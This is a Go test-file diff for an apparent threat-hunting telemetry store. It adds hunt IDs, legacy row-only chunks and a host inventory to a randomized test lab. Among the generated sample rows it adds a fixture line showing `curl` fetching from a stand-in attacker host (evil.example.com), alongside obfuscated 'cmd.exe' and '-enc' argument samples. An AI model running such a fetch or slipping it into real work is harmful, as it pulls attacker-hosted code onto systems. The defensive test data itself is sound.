@@ -28,13 +28,15 @@ type lab struct {
 	store.Stores
 	*hunt.Service
 	rows []labRow
+	// inventory are the hosts by their ids.
+	inventory map[string]hosts.Host
 }
 
 // labRow is a row as the plain reference knows it.
 type labRow struct {
 	tenant               tenancy.ID
 	host, artifact, flow string
-	collection           string
+	collection, hunt     string
 	row                  int64
 	data                 string
 	leaves               []leaf
@@ -66,14 +68,15 @@ func (l *lab) host(t testing.TB, tenant tenancy.ID, name string, labels ...strin
 	return h
 }
 
-// keep stores rows of one artifact from one host, cut into chunks of the sizes that size returns.
-func (l *lab) keep(t testing.TB, tenant tenancy.ID, host, artifact string, rows []string, size func() int) string {
+// keep stores rows of one artifact from one host, cut into chunks of the sizes that size returns. Those for which old
+// says so are as chunks were before there were columns: rows, of whose times the store does not know.
+func (l *lab) keep(t testing.TB, tenant tenancy.ID, host, hunt, artifact string, rows []string, size func() int, old func() bool) {
 	t.Helper()
 	codec, err := ingest.NewCodec()
 	require.NoError(t, err)
 	result := ingest.Result{ID: newID(), Artifact: artifact, Read: int64(len(rows)), Stored: int64(len(rows))}
 	c := ingest.Collection{
-		ID: newID(), HostID: host, FlowID: "F." + newID(), Key: newID(), Status: ingest.Complete, CollectedAt: collected,
+		ID: newID(), HostID: host, FlowID: "F." + newID(), HuntID: hunt, Key: newID(), Status: ingest.Complete, CollectedAt: collected,
 		IngestedAt: collected, Results: []ingest.Result{result},
 	}
 	var chunks []ingest.Chunk
@@ -87,6 +90,9 @@ func (l *lab) keep(t testing.TB, tenant tenancy.ID, host, artifact string, rows 
 		out := ingest.Chunk{ChunkHeader: ingest.ChunkHeader{
 			ID: newID(), ResultID: result.ID, Artifact: artifact, FirstRow: int64(first), Rows: n, RawBytes: int64(b.RawBytes()),
 		}}
+		if old() {
+			built = chunk.Built{MinTime: chunk.NoTime, Blocks: []chunk.Block{rowsBlock(rows[first : first+n])}}
+		}
 		if built.MinTime != chunk.NoTime {
 			out.MinTime, out.MaxTime = time.UnixMicro(built.MinTime).UTC(), time.UnixMicro(built.MaxTime).UTC()
 		}
@@ -103,11 +109,16 @@ func (l *lab) keep(t testing.TB, tenant tenancy.ID, host, artifact string, rows 
 	})
 	require.NoError(t, err)
 	for i, row := range rows {
-		r := labRow{tenant: tenant, host: host, artifact: artifact, flow: c.FlowID, collection: c.ID, row: int64(i), data: row}
+		r := labRow{tenant: tenant, host: host, artifact: artifact, flow: c.FlowID, collection: c.ID, hunt: hunt, row: int64(i), data: row}
 		r.leaves = leavesOf(t, row)
 		l.rows = append(l.rows, r)
 	}
-	return c.ID
+}
+
+// rowsBlock is the block of a chunk that has no columns.
+func rowsBlock(rows []string) chunk.Block {
+	const plain = 1
+	return chunk.Block{Column: chunk.RowsColumn, Data: append([]byte{plain}, strings.Join(rows, "\n")...)}
 }
 
 func newID() string { return uuid.Must(uuid.NewV7()).String() }
@@ -169,7 +180,8 @@ func randomRow(r *rand.Rand) string {
 	for r.IntN(3) == 0 {
 		raw([]string{`"Pid":null`, `"Pid":"7"`, `"Pid":1e2`, `"Hash":{"MD5":"aa","SHA256":null}`, `"Hash":{}`, `"Hash":"flat"`,
 			`"Args":["-enc","x",{"y":[true,false]}]`, `"Args":[]`, `"Args":["x","x"]`, `"Name":"c\u006dd.exe"`, `"Hash.MD5":"dotted"`,
-			`"Big":18446744073709551615`, `"Deep":{"a":{"b":{"c":"svchost.exe"}}}`}[r.IntN(13)])
+			`"Big":18446744073709551615`, `"Deep":{"a":{"b":{"c":"svchost.exe"}}}`, `"Raddr":"10.0.0.1"`,
+			`"Line":"curl http://evil.example.com/a from 10.0.0.2"`}[r.IntN(15)])
 	}
 	if r.IntN(4) == 0 {
 		add("CreateTime", collected.Add(time.Duration(r.IntN(1000))*time.Second).Format(time.RFC3339))
@@ -239,7 +251,16 @@ func randomLab(t testing.TB, stores store.Stores, r *rand.Rand) (*lab, []tenancy
 		for range 1 + r.IntN(60) {
 			rows = append(rows, randomRow(r))
 		}
-		l.keep(t, tenant, h.ID, []string{"A", "B/s"}[r.IntN(2)], rows, func() int { return 1 + r.IntN(30) })
+		l.keep(t, tenant, h.ID, fmt.Sprint("H.", r.IntN(2)), []string{"A", "B/s"}[r.IntN(2)], rows,
+			func() int { return 1 + r.IntN(30) }, func() bool { return r.IntN(4) == 0 })
+	}
+	l.inventory = make(map[string]hosts.Host)
+	for _, tenant := range tenants {
+		all, err := l.Hosts.Hosts(t.Context(), tenant, hosts.Filter{Limit: 100})
+		require.NoError(t, err)
+		for _, h := range all {
+			l.inventory[h.ID] = h
+		}
 	}
 	return l, tenants
 }
